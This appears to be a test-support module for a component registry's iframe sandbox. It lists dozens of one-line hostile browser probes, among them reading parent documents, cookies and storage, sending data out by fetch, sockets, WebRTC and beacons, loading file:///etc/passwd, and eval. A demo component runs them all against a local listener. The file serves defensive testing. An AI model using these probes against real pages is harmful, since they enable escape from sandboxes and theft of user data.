// @ts-check
// A hostile demo: whatever a script in a frame can try, to reach the page around it, its stores, the network or the person. And
// what a test of it needs: a listener that nothing may reach, and a registry of demos.
import { mkdirSync, writeFileSync } from "node:fs"
import { createSocket } from "node:dgram"
import { createServer } from "node:net"
import path from "node:path"
import { freshDir } from "../support/paths.mjs"

/** What it tries, by name. `there` is the listener; what returns or resolves to true has reached something. */
export const ATTEMPTS = /** @type {Record<string, string>} */ ({
  "the document of the page": "!!parent.document.body",
  "a variable of the page": "(parent.reached = true)",
  "the address of the page": "!!parent.location.href",
  "the document of the top": "!!top.document.body",
  "navigation of the top": "(top.location.href = there + 'top', false)",
  "the frame element": "!!window.frameElement",
  "the opener": "!!window.opener",
  "reading cookies": "document.cookie.length > 0",
  "writing cookies": "(document.cookie = 'reached=1', document.cookie.includes('reached'))",
  "local storage": "(localStorage.setItem('reached', '1'), true)",
  "session storage": "(sessionStorage.setItem('reached', '1'), true)",
  "a database": "new Promise((done) => { const ask = indexedDB.open('reached'); ask.onsuccess = () => done(true); ask.onerror = () => done(false) })",
  "a cache": "caches.open('reached').then(() => true)",
  "a service worker": "navigator.serviceWorker.register('/live/item/hostile').then(() => true)",
  "fetch": "fetch(there + 'fetch', { mode: 'no-cors' }).then(() => true)",
  "fetch of the server itself": "fetch('/api/v1/ui').then(() => true)",
  "a request": "new Promise((done, fail) => { const ask = new XMLHttpRequest(); ask.open('GET', there + 'xhr'); ask.onload = () => done(true); ask.onerror = fail; ask.send() })",
  "a socket": "new Promise((done, fail) => { const socket = new WebSocket(there.replace('http', 'ws')); socket.onopen = () => done(true); socket.onerror = fail })",
  "an event source": "new Promise((done, fail) => { const source = new EventSource(there + 'events'); source.onopen = () => done(true); source.onerror = fail })",
  "a peer": "new Promise((done) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: there.replace('http://', 'stun:').replace('/', '') }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)).then(() => done(true)) })",
  "a peer of a browser of the past": "!!new webkitRTCPeerConnection()",
  "a peer that is brought back": "(delete window.RTCPeerConnection, window.RTCPeerConnection = Object, typeof window.RTCPeerConnection === 'function')",
  "a peer of an inner frame": "!!new (document.body.appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection)()",
  "a transport": "(new WebTransport(there.replace('http', 'https')), true)",
  "a beacon": "(navigator.sendBeacon(there + 'beacon', 'x'), false)",
  "an image": "loaded('img', { src: there + 'image' })",
  "a script": "loaded('script', { src: there + 'script' })",
  "a script of a data address": "loaded('script', { src: 'data:text/javascript,window.reached=1' })",
  "an inline script": "(document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.inlined = 1' })), !!window.inlined)",
  "a handler in markup": "new Promise((done) => { document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.handled=1\">'); setTimeout(() => done(!!window.handled), 300) })",
  "a style sheet": "loaded('link', { rel: 'stylesheet', href: there + 'style' })",
  "a style from elsewhere": "(document.head.append(Object.assign(document.createElement('style'), { textContent: `@import '${there}import'; body { background: url(${there}background) }` })), false)",
  "a font": "new FontFace('x', `url(${there}font)`).load().then(() => true)",
  "a hint": "(document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: there + 'prefetch' })), false)",
  "sound": "loaded('audio', { src: there + 'sound' })",
  "a frame": "(document.body.append(Object.assign(document.createElement('iframe'), { src: there + 'frame' })), false)",
  "an object": "(document.body.append(Object.assign(document.createElement('object'), { data: there + 'object' })), false)",
  "a module": "import(/* none */ there + 'module').then(() => true)",
  "eval": "eval('true')",
  "a function from text": "new Function('return true')()",
  "a timer with text": "new Promise((done) => { setTimeout('window.timed = 1'); setTimeout(() => done(!!window.timed), 300) })",
  "a worker": "new Promise((done, fail) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done(true); worker.onerror = fail })",
  "a window": "!!window.open(there + 'window')",
  "a form": "(document.body.append(Object.assign(document.createElement('form'), { action: there + 'form', id: 'f' })), document.getElementById('f').submit(), false)",
  "a window of a form": "(document.body.append(Object.assign(document.createElement('form'), { action: there + 'formwindow', target: '_blank', id: 'w' })), document.getElementById('w').submit(), false)",
  "a ping": "(Object.assign(document.createElement('a'), { href: '#here', ping: there + 'ping' }).click(), false)",
  "a connection in advance": "(document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: there })), false)",
  "a module in advance": "(document.head.append(Object.assign(document.createElement('link'), { rel: 'modulepreload', href: there + 'modulepreload' })), false)",
  "a page in advance": "(document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [there + 'speculation'] }] }) })), false)",
  "a manifest": "(document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: there + 'manifest' })), false)",
  "a file of the machine": "fetch('file:///etc/passwd').then(() => true)",
  "a frame of a file": "(document.body.append(Object.assign(document.createElement('iframe'), { src: 'file:///etc/passwd' })), false)",
  "private files": "navigator.storage.getDirectory().then(() => true)",
  "a shared worker": "new Promise((done, fail) => { const worker = new SharedWorker(URL.createObjectURL(new Blob(['onconnect = (event) => event.ports[0].postMessage(1)']))); worker.port.onmessage = () => done(true); worker.onerror = fail })",
  "a worklet": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(URL.createObjectURL(new Blob(['0']))).then(() => true)",
  "a worklet from elsewhere": "new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(there + 'worklet').then(() => true)",
  "a document of its own": "new Promise((done) => { document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<script>parent.reachedInside = 1; new Image().src = '${there}srcdoc'<` + '/script>' })); setTimeout(() => done(!!window.reachedInside), 500) })",
  "a payment": "new PaymentRequest([{ supportedMethods: there + 'payment' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment()",
  "an identity": "navigator.credentials.get({ identity: { providers: [{ configURL: there + 'identity.json', clientId: '1' }] } }).then(() => true)",
  "the clipboard": "navigator.clipboard.readText().then(() => true)",
  "the camera": "navigator.mediaDevices.getUserMedia({ video: true }).then(() => true)",
  "notifications": "Notification.requestPermission().then((answer) => answer === 'granted')",
  "a channel to other pages": "(new BroadcastChannel('reached').postMessage(1), false)",
  "a dialog": "(alert('reached'), false)",
})

/** The demo. @param {string} there the address of a listener */
export const hostile = (there) => `import { useEffect } from "react"

const there = ${JSON.stringify(there)}
const loaded = (name, properties) => new Promise((done, fail) => {
  const element = Object.assign(document.createElement(name), properties)
  element.onload = element.onloadedmetadata = () => done(true)
  element.onerror = () => fail(new Error("refused"))
  document.body.append(element)
})
const attempts = {
${Object.entries(ATTEMPTS).map(([name, code]) => `  ${JSON.stringify(name)}: () => ${code},`).join("\n")}
}

export default function Hostile() {
  useEffect(() => {
    const run = async () => {
      for (const [name, attempt] of Object.entries(attempts)) {
        parent.postMessage({ attempt: name }, "*")
        const late = new Promise((done) => setTimeout(() => done(false), 1500))
        try {
          if (await Promise.race([attempt(), late])) parent.postMessage({ reached: name }, "*")
        } catch {}
      }
      parent.postMessage({ done: true }, "*")
    }
    run()
  }, [])
  return <p>hostile</p>
}
`

/**
 * A server that records what anybody sends to it, and every packet to the same port of UDP. A connection on which nothing is sent is counted:
 * no policy of a page prevents the browser from opening one in advance.
 */
export async function listen() {
  /** @type {string[]} */
  const heard = []
  const opened = { connections: 0 }
  const listener = createServer((socket) => {
    opened.connections += 1
    socket.on("error", () => {})
    socket.on("data", (bytes) => {
      heard.push(/^[A-Z]+ (\S+) HTTP/.exec(bytes.toString("latin1"))?.[1] ?? `${bytes.length} bytes`)
      socket.end("HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 18\r\nConnection: close\r\n\r\nwindow.reached = 1")
    })
  })
  await new Promise((resolve) => listener.listen(0, "127.0.0.1", () => resolve(undefined)))
  const address = listener.address()
  const port = typeof address === "object" ? address?.port : 0
  const packets = createSocket("udp4")
  packets.on("message", () => heard.push("a packet"))
  await new Promise((resolve) => packets.bind(port, "127.0.0.1", () => resolve(undefined)))
  return { heard, opened, there: `http://127.0.0.1:${port}/`, close: () => (listener.close(), packets.close()) }
}

/** A registry with an item for each demo. @param {Record<string, string>} demos sources by name */
export function registryOf(demos) {
  const dir = freshDir("registry")
  mkdirSync(path.join(dir, "demos"))
  for (const [name, text] of Object.entries(demos)) writeFileSync(path.join(dir, "demos", `${name}.tsx`), text)
  const items = Object.keys(demos).map((name) => ({
    name,
    type: "registry:component",
    title: name,
    description: "A demo.",
    files: [{ path: `demos/${name}.tsx`, type: "registry:component" }],
  }))
  writeFileSync(path.join(dir, "registry.json"), JSON.stringify({ name: "hostile", homepage: "https://hostile.example", items }))
  return dir
}
